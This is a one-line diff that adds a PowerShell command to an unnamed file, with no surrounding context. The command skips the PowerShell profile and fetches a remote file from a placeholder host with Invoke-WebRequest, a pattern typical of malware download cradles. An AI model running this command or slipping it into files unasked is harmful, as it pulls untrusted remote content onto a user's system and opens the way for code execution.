@@ -1,0 +1,1 @@
+powershell -nop iwr http://a.example/p/x.txt
